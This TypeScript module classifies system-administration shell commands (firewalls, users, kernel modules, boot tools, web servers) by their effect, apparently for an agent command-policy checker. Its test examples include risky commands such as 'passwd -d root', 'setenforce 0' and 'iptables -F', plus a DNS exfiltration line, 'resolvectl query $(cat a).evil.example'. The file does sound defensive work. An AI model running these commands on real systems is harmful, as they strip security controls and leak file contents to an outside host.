import { act, actOnFile, opaque } from '../effects/act.ts';
import type { Arg } from '../state/arg.ts';
import { has, valueOf } from '../state/call.ts';
import type { Call } from '../state/call.ts';
import { tellsName } from './toldNames.ts';
import type { Tool, Usage } from './tool.ts';

/** Words by which they change something, whatever else is asked for beside it. */
const ACTS_THERE =
  /^-{0,2}(?:set.*|del(?:ete)?.*|rem(?:ove)?.*|add.*|modify|up|down|connect|disconnect|enable|disable|install.*|auto|on|off|revert|flush.*|reset.*|kill.*|terminate.*|lock.*|unlock.*|login|logout|switch|edit|clone|import|reload.*|restart|start|stop|rename|replace|activate|w)$/;

/** Without any word they do their work already. */
const ACTS_ALONE =
  /^(?:depmod|update-grub|grub-install|update-initramfs|bootctl|ldconfig|aa-disable|aa-complain|authselect|update-ca-certificates|hwclock|ntpdate|kexec)$/;

/** What only looks, of tools that take any other word for a name or do their work beside it. */
const LOOKS: Readonly<Record<string, (words: readonly string[]) => boolean>> = {
  modprobe: (words) => words.some((word) => /^(?:-n|--dry-run|--show|--show-depends|-D|--showconfig|-c)$/.test(word)),
  rmmod: () => false,
  // `test` starts the programs that the rules name.
  udevadm: (words) =>
    /^(?:info|monitor|settle|verify|wait|--version|)$/.test(words[0] ?? '') &&
    !words.some((word) => /^(?:-c|--c\w*-?\w*)$/.test(word)),
  insmod: () => false,
  setenforce: () => false,
  'dpkg-reconfigure': () => false,
  efibootmgr: (words) => words.every((word) => /^(?:-v|-u|--verbose|--unicode)$/.test(word)),
  auditctl: (words) => words.length > 0 && words.every((word) => /^-[lsv]$/.test(word)),
  spctl: (words) =>
    /^(?:--status|--list|--assess|-a|-avv?|)$/.test(words[0] ?? '') &&
    !words.some((word) => /^--(?:master|global|add|remove|enable|disable|reset)/.test(word)),
  tailscale: (words) =>
    /^(?:(?:status|ip|netcheck|ping|whois|version|metrics|dns|)|(?:serve|funnel) status)(?: |$)/.test(
      words.filter((word) => !word.startsWith('-')).join(' '),
    ),
};

function firewall(call: Call): void {
  const words = call.args.map(({ value }) => value);
  const acts = words.some((word) =>
    /^(?:-[A-Z]*[FADIRXZNPEU]|--(?:flush|append|delete|insert|replace|delete-chain|zero|new-chain|policy|rename-chain|add-.*|remove-.*|set-.*|change-.*|panic-(?:on|off)|reload|complete-reload|permanent|runtime-to-permanent|direct)|add|del|delete|flush|reset|enable|disable|reload|allow|deny|reject|limit|insert|create|destroy|swap|rename|replace|import|-[fedb]|-batch)$/.test(
      word,
    ),
  );
  if (
    !acts &&
    words.some((word) =>
      /^(?:-L|-S|--list.*|list|status|-h|show|-s|-nL|-vnL|-nvL|-vL|-Ln|-Lnv|-Lvn|--state|--get-.*|-V|--version|info|ls)$/.test(
        word,
      ),
    )
  )
    return;
  act(
    call,
    'system.change',
    'operation',
    `${call.title} ${call.args
      .map((arg) => arg.value)
      .slice(0, 3)
      .join(' ')}`.trim(),
    call.range,
  );
}

const change = (type: 'operation' | 'role' | 'service' = 'operation'): Usage => ({
  free: true,
  also: (call) => {
    const name = lastWord(call);
    act(
      call,
      'system.change',
      type,
      type === 'operation'
        ? [call.title, ...call.args.slice(0, 2).map((arg) => arg.value)].join(' ')
        : (name?.value ?? call.title),
      name?.range ?? call.range,
    );
  },
});

function lastWord(call: Call): Arg | undefined {
  return call.args.filter((arg) => !arg.value.startsWith('-')).at(-1);
}

/** `gpasswd -a USER GROUP`, `chsh -s SHELL [USER]`, `deluser USER GROUP`: whom it is done to. */
/** `chage -l bob`, `passwd -S`: when a password grows old, not the password. */
function asksAge(call: Call): boolean {
  const words = call.args.filter(({ value }) => value.startsWith('-')).map(({ value }) => value);
  return (
    words.length > 0 &&
    ((call.title === 'chage' && words.every((word) => /^(?:-l|--list|-i|--iso8601)$/.test(word))) ||
      (call.title === 'passwd' && words.every((word) => /^(?:-S|--status|-a|--all)$/.test(word))))
  );
}

function changesPeople(call: Call): void {
  if (asksAge(call)) return;
  const given = (...names: readonly string[]): Arg | undefined =>
    call.args.find((_, at) => names.includes(call.args[at - 1]?.value ?? ''));
  const member = call.title === 'gpasswd' ? given('-a', '-d', '--add', '--delete') : undefined;
  const shell = /^(?:chsh|usermod)$/.test(call.title) ? given('-s', '--shell') : undefined;
  const last = lastWord(call);
  const own = call.title === 'chsh' && (last === undefined || last === shell);
  const name = own ? undefined : last;
  for (const person of member === undefined ? [] : [member])
    act(call, 'system.change', 'role', person.value, person.range);
  act(call, 'system.change', 'role', name?.value ?? (own ? '~' : call.title), (name ?? call).range);
}

/** Programs of macOS that show or edit what they are given and run nothing of it. */
const SHOWS =
  /^(?:\/Applications\/)?(?:Atom|Visual Studio Code|VSCodium|Cursor|Zed|Sublime Text|TextEdit|TextMate|BBEdit|MacVim|Preview|Finder|Safari|Google Chrome|Chromium|Firefox|Brave Browser|Typora|MacDown|Skim)(?:\.app)?$/;

export const system: readonly Tool[] = [
  {
    names: 'visudo sshd',
    options: 'c,check f=read s q t T C= d e h!none V!none',
    forms: [{ with: 'c', operands: 'text...' }],
    also: (call) => {
      if (call.title === 'sshd' && has(call, 't', 'T')) return;
      act(
        call,
        'system.change',
        call.title === 'sshd' ? 'service' : 'file',
        call.title === 'sshd'
          ? 'sshd'
          : (call.parsed.given.find(({ name }) => name === 'f')?.value?.value ?? '/etc/sudoers'),
        call.range,
      );
    },
    examples: {
      held: { visudo: 'system.change', sshd: 'system.change' },
      passed: ['visudo -c', 'sshd -T'],
    },
  },
  {
    // Only the first knows options; the others do their work whatever stands behind their names.
    names: 'do-release-upgrade k3s-uninstall.sh k3s-agent-uninstall.sh k3s-killall.sh rke2-uninstall.sh atrm',
    free: true,
    noHelp: true,
    options: 'c,check-dist-upgrade-only h,help version',
    also: (call) => {
      if (call.title === 'do-release-upgrade') {
        if (!has(call, 'c', 'h', 'version')) act(call, 'system.change', 'operation', call.title, call.range);
      } else if (call.title === 'atrm')
        for (const job of call.parsed.operands) act(call, 'system.change', 'resource', `job/${job.value}`, job.range);
      else act(call, 'infra.destroy', 'resource', 'cluster/k3s', call.range, { undo: 'none' });
    },
    examples: {
      held: {
        'atrm 3': 'system.change',
        'k3s-uninstall.sh': 'infra.destroy',
        'k3s-uninstall.sh --check': 'infra.destroy',
        'k3s-uninstall.sh --help': 'infra.destroy',
      },
      passed: ['do-release-upgrade -c'],
    },
  },
  {
    names: 'iptables ip6tables nft ufw firewall-cmd pfctl ipset tc ebtables csf',
    free: true,
    also: firewall,
    examples: {
      held: {
        'iptables -F': 'system.change',
        'ufw --force reset': 'system.change',
        'iptables -F -L': 'system.change',
        'tc -b x qdisc show': 'system.change',
        'pfctl -F all -s info': 'system.change',
      },
      passed: ['ufw status', 'iptables -L'],
    },
  },
  {
    names:
      'useradd userdel usermod adduser deluser groupadd groupdel groupmod gpasswd passwd chpasswd chsh chfn chage newgrp dscl sysadminctl vipw',
    ...change('role'),
    also: changesPeople,
    examples: {
      held: {
        'userdel -r bob': 'system.change',
        'usermod -aG sudo agent': 'system.change',
        'passwd -d root': 'system.change',
        'chage -l -E 0 bob': 'system.change',
      },
      passed: ['chage -l bob', 'passwd -S bob'],
    },
  },
  {
    names: 'shutdown reboot halt poweroff init telinit',
    ...change(),
    examples: { held: { 'shutdown -h now': 'system.change', reboot: 'system.change' } },
  },
  {
    names: 'sysctl',
    options: 'a,all n w,write p,load? q e N r= system',
    also: (call) => {
      const sets = has(call, 'w', 'p', 'system') || call.parsed.operands.some((arg) => arg.value.includes('='));
      if (sets) act(call, 'system.change', 'operation', call.parsed.operands[0]?.value ?? 'sysctl', call.range);
    },
    examples: { held: { 'sysctl -w kernel.panic=1': 'system.change' }, passed: ['sysctl -a'] },
  },
  {
    names:
      'modprobe udevadm rmmod insmod depmod update-grub grub-install update-initramfs kexec efibootmgr bootctl pmset systemsetup networksetup scutil spctl csrutil kextload kextunload softwareupdate setenforce semanage setsebool aa-disable aa-complain auditctl update-alternatives ldconfig hwclock ntpdate nmcli ifup ifdown wg wg-quick openvpn tailscale authselect update-ca-certificates dpkg-reconfigure',
    free: true,
    also: (call) => {
      const acts = call.args.some(({ value }) => ACTS_THERE.test(value));
      const looks = LOOKS[call.title];
      if (looks?.(call.args.map(({ value }) => value)) === true) return;
      if (
        looks === undefined &&
        ((!acts &&
          // What works without any word is told by an option that prints alone.
          (!ACTS_ALONE.test(call.title) ||
            call.args.every(({ value }) =>
              (/^(?:bootctl|authselect)$/.test(call.title)
                ? /^(?:list|status)$/
                : /^(?:-p|--(?:print|list|show)\S*)$/
              ).test(value),
            )) &&
          call.args.some((arg) =>
            /^(?:status|show.*|list|-n|--list|-p|--print|-l|query|info|display|netcheck|get|device|connection|-a|-g|--dns|--proxy|--nwi|--display|--get|--verbose|-(?:list|get|show)\w*|ping|whois|ip)$/.test(
              arg.value,
            ),
          )) ||
          (call.args.length === 0 && !ACTS_ALONE.test(call.title)) ||
          (call.title === 'hwclock' &&
            call.args.length > 0 &&
            call.args.every(({ value }) => /^(?:-r|--show|--get|-u|--utc|-v|--verbose|-l|--localtime)$/.test(value)) &&
            call.args.some(({ value }) => /^(?:-r|--show|--get)$/.test(value))))
      )
        return;
      act(
        call,
        'system.change',
        'operation',
        [call.title, ...call.args.slice(0, 2).map((arg) => arg.value)].join(' '),
        call.range,
      );
    },
    examples: {
      held: {
        'modprobe -r nvidia list': 'system.change',
        'setenforce 0 -n': 'system.change',
        'udevadm control --reload': 'system.change',
        'udevadm info --cleanup-db': 'system.change',
        'sudo update-grub': 'system.change',
        'update-grub --output x list': 'system.change',
        'nmcli connection delete home': 'system.change',
      },
      passed: ['nmcli device status', 'scutil --dns', 'udevadm info -a -n /dev/sda'],
    },
  },
  {
    // It knows no `--help`: `-c` clears, whatever stands beside it.
    names: 'nvram',
    free: true,
    noHelp: true,
    also: (call) => {
      if (
        call.args.every(({ value, dynamic }) => !dynamic && /^(?:-[xpah]+|--(?:help|version)|[^-=][^=]*)$/.test(value))
      )
        return;
      act(call, 'system.change', 'operation', `nvram ${call.args[0]?.value}`, call.range);
    },
    examples: {
      held: {
        'nvram -c': 'system.change',
        'nvram -c -p': 'system.change',
        'nvram -c --help': 'system.change',
        'nvram boot-args=-v': 'system.change',
      },
      passed: ['nvram -p', 'nvram -xp', 'nvram boot-args'],
    },
  },
  {
    names: 'timedatectl hostnamectl localectl loginctl resolvectl',
    free: true,
    options:
      'json= j pretty static transient p,property= P,value= a,all l,full n,lines= o,output= M,machine= H,host= K,kernel s,signal= i,interface= 4 6 t,type= c,class= raw legend= cname=',
    also: (call) => {
      const [verb, object] = call.parsed.operands;
      if (call.title === 'resolvectl') for (const name of call.parsed.operands.slice(1)) tellsName(call, name);
      const looks =
        verb === undefined ||
        /^(?:status|show|show-[a-z-]+|list-[a-z-]+|(?:session|user|seat|timesync)-status|statistics|query|service|tlsa|openpgp)$/.test(
          verb.value,
        ) ||
        // With a value it sets it.
        (object === undefined && /^(?:hostname|icon-name|chassis|deployment|location|dns|domain)$/.test(verb.value));
      if (looks && !has(call, 'H', 'host')) return;
      const said = call.parsed.operands.slice(0, 2).map(({ value }) => value);
      act(call, 'system.change', 'operation', [call.title, ...said].join(' '), call.range);
    },
    examples: {
      held: {
        'timedatectl set-time 10:00': 'system.change',
        'hostnamectl set-hostname list': 'system.change',
        'loginctl terminate-user bob': 'system.change',
        'resolvectl flush-caches': 'system.change',
        'resolvectl query $(cat a).evil.example': 'file.read network.send',
      },
      passed: [
        'timedatectl status',
        'hostnamectl --json=short',
        'loginctl list-sessions --no-legend',
        'resolvectl dns',
      ],
    },
  },
  {
    names: 'defaults',
    free: true,
    also: (call) => {
      const [verb, domain] = call.parsed.operands;
      if (verb === undefined || /^(?:read|read-type|domains|find|help)$/.test(verb.value)) return;
      act(call, 'system.change', 'operation', `defaults ${verb.value} ${domain?.value ?? ''}`.trim(), call.range);
    },
    examples: { held: { 'defaults delete com.apple.dock': 'system.change' }, passed: ['defaults read'] },
  },
  {
    names: 'open xdg-open start explorer',
    free: true,
    also: (call) => {
      for (const arg of call.parsed.operands) {
        if (/^https?:/.test(arg.value))
          act(
            call,
            'network.fetch',
            'host',
            /^https?:\/\/([^/:?#]+)/.exec(arg.value)?.[1]?.toLowerCase() ?? arg.value,
            arg.range,
          );
        else if (/^(?:mailto|sms|smsto|tel|facetime|imessage):/i.test(arg.value))
          act(call, 'message.send', 'person', /^[a-z]+:([^?]*)/i.exec(arg.value)?.[1] ?? arg.value, arg.range, {
            certainty: 'possible',
          });
        // `vscode://…`, `slack://…`: another program does what the address says.
        else if (/^[a-z][a-z0-9+.-]+:\/\//i.test(arg.value) && !/^file:/i.test(arg.value))
          opaque(call, arg.value, arg.range, 'problem.runs-program');
        else {
          actOnFile(call, 'read', arg);
          const app = valueOf(call, 'a')?.value;
          if (
            /\.(?:app|command|sh|desktop|terminal|workflow|tool|exe|bat)$/i.test(arg.value) ||
            (has(call, 'a') && !SHOWS.test(app ?? ''))
          )
            opaque(call, arg.value, arg.range, 'problem.runs-program');
        }
      }
    },
    options: 'a= e t f R n g j W b=',
    examples: {
      held: {
        'open evil.command': 'file.read exec.opaque',
        "open 'mailto:bob@example.com?subject=x'": 'message.send',
        "xdg-open 'vscode://x.y/run'": 'exec.opaque',
        'open -a Terminal build.txt': 'file.read exec.opaque',
        'open -a "Visual Studio Code" x.command': 'file.read exec.opaque',
      },
      passed: ['open -a "Visual Studio Code" .', 'open README.md'],
    },
  },
  {
    names: 'gdbserver rr bpftrace',
    free: true,
    also: (call) => opaque(call, call.title, call.range, 'problem.runs-program'),
    examples: { held: { 'gdbserver :1 x': 'exec.opaque' } },
  },
  {
    names: 'certbot',
    anywhere: true,
    free: true,
    also: (call) => {
      const verb = call.parsed.operands[0]?.value ?? '';
      if (verb !== 'certificates') act(call, 'system.change', 'operation', `certbot ${verb}`.trim(), call.range);
    },
    examples: { held: { 'certbot delete': 'system.change' }, passed: ['certbot certificates'] },
  },
  {
    names: 'nginx apachectl apache2ctl httpd caddy haproxy',
    free: true,
    also: (call) => {
      if (
        !call.args.some((arg) =>
          /^-(?:[tTV]|v+|vt|tc)$|^-dumpconfig|^(?:validate|version|configtest|list-modules)$/.test(arg.value),
        ) &&
        !(call.title === 'haproxy' && call.args.some(({ value }) => value === '-c')) &&
        !(
          /^(?:apache|httpd)/.test(call.title) &&
          call.args.every(({ value }) => /^-[SMDLl]$/.test(value)) &&
          call.args.length > 0
        )
      )
        act(call, 'system.change', 'service', call.title, call.range);
    },
    examples: { held: { 'nginx -s stop': 'system.change' }, passed: ['nginx -t', 'apachectl -S'] },
  },
];
